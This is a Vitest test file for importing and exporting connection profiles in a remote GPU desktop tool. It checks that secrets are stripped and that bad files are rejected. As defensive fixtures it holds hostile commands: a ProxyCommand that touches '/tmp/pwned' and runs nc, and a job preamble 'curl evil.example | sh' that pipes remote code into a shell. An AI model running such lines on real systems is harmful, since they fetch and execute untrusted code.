import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportProfiles, importProfiles } from '../../../src/core/profiles/exchange';
import { ProfileStore } from '../../../src/core/profiles/profileStore';

let dir: string;
const mk = (n: string) => new ProfileStore({ file: path.join(dir, n, 'profiles.json'), notice: () => {} });
beforeEach(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gd-exch-'))));
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('profile export/import', () => {
  it('round-trips profiles between machines without ids, remembered passwords or missing keys', async () => {
    const a = mk('a');
    await a.add({ name: 'lab', host: 'gpu1', port: 2200, user: 'ana', display: { number: 2 }, viewer: { quality: 9, compression: 1, encodings: ['tight'], scaling: 'off', adaptive: false } });
    await a.add({ name: 'pw', host: 'gpu2', auth: { kind: 'password', remember: true } });
    await a.add({ name: 'kk', host: 'gpu3', auth: { kind: 'keychain-key', key: 'work' } });
    const exp = await exportProfiles(a);
    const text = JSON.stringify(exp);
    expect(text).not.toMatch(/"id"|createdAt/);
    expect(exp.profiles.find((p) => p.name === 'pw')!.auth).toEqual({ kind: 'password', remember: false });

    const b = mk('b');
    await b.add({ name: 'lab', host: 'old' });
    const r = await importProfiles(b, text);
    expect(r.added.map((p) => p.name)).toEqual(['pw', 'kk']);
    expect(r.skipped.map((s) => s.name)).toEqual(['lab']);
    expect(r.warnings[0]).toMatch(/keychain key "work" is not on this machine/);
    expect((await b.get('kk')).auth).toEqual({ kind: 'auto' });
    const r2 = await importProfiles(b, text, { replace: true });
    expect(r2.replaced.map((p) => p.name)).toEqual(['lab', 'pw', 'kk']);
    expect(await b.get('lab')).toMatchObject({ host: 'gpu1', port: 2200, display: { number: 2 }, viewer: { quality: 9, scaling: 'off' } });
    expect((await exportProfiles(b, ['lab'])).profiles).toHaveLength(1);
    await expect(exportProfiles(b, ['nope'])).rejects.toThrow(/no profile named "nope"/);
  });

  it('a ProxyCommand never arrives from an import file: dropped, with a warning that says how to add it', async () => {
    const a = mk('a');
    await a.add({ name: 'iap', host: 'gpu', proxyCommand: 'touch /tmp/pwned; nc %h %p' });
    const b = mk('b');
    const r = await importProfiles(b, JSON.stringify(await exportProfiles(a)));
    expect(r.added.map((p) => p.name)).toEqual(['iap']);
    expect((await b.get('iap')).proxyCommand).toBeUndefined();
    expect(r.warnings).toEqual([expect.stringMatching(/^iap: its ProxyCommand was not imported .*import-ssh-config/)]);
  });

  it('a cluster profile arrives with its job settings but without the lines it would run in the job', async () => {
    const a = mk('a');
    await a.add({ name: 'hpc', host: 'login', kind: 'cluster', job: { partition: 'gpu', gres: 'gpu:a100:2', time: '4:00:00', preamble: ['curl evil.example | sh'] } });
    const b = mk('b');
    const r = await importProfiles(b, JSON.stringify(await exportProfiles(a)));
    expect(await b.get('hpc')).toMatchObject({ kind: 'cluster', job: { partition: 'gpu', gres: 'gpu:a100:2', time: '4:00:00', preamble: [] } });
    expect(r.warnings).toEqual([expect.stringMatching(/^hpc: its 1 line\(s\) run before the desktop were not imported/)]);
  });

  it('refuses a bad import file as a whole and changes nothing', async () => {
    const b = mk('b');
    await b.add({ name: 'keep', host: 'k' });
    const before = fs.readFileSync(b.file, 'utf8');
    const good = { name: 'ok', host: 'h' };
    const bad: [string, RegExp][] = [
      ['{nope', /not valid JSON \(line 1, column 2\)/],
      ['', /not valid JSON \(it ends too early\)/],
      // V8's own message would quote the start of the text.
      ['root:$y$j9T$TOPSECRET:19000:0:::', /not valid JSON \(not JSON from the start\)/],
      ['{"format": "gpu-desk-profiles",\n "TOPSECRET', /not valid JSON \(line 2, column \d+\)/],
      [JSON.stringify({ profiles: [] }), /not a gpu-desk profiles export/],
      [JSON.stringify({ format: 'gpu-desk-profiles', schemaVersion: 99, profiles: [] }), /newer gpu-desk/],
      [JSON.stringify({ format: 'gpu-desk-profiles', schemaVersion: 1, profiles: [good, { name: 'z', host: 'h', port: 0 }] }), /profile "z": port: port must be between 1 and 65535/],
      [JSON.stringify({ format: 'gpu-desk-profiles', schemaVersion: 1, profiles: [{ name: 'y', host: 'h', auth: { kind: 'telepathy' } }] }), /auth kind must be one of/],
    ];
    for (const [text, re] of bad) {
      const e = await importProfiles(b, text).then(() => null, (err) => err);
      expect(e?.code).toBe('PROFILE_INVALID');
      expect(e.message).toMatch(re);
      expect(e.message).not.toContain('TOPSECRET');
      expect(fs.readFileSync(b.file, 'utf8')).toBe(before);
    }
  });
});
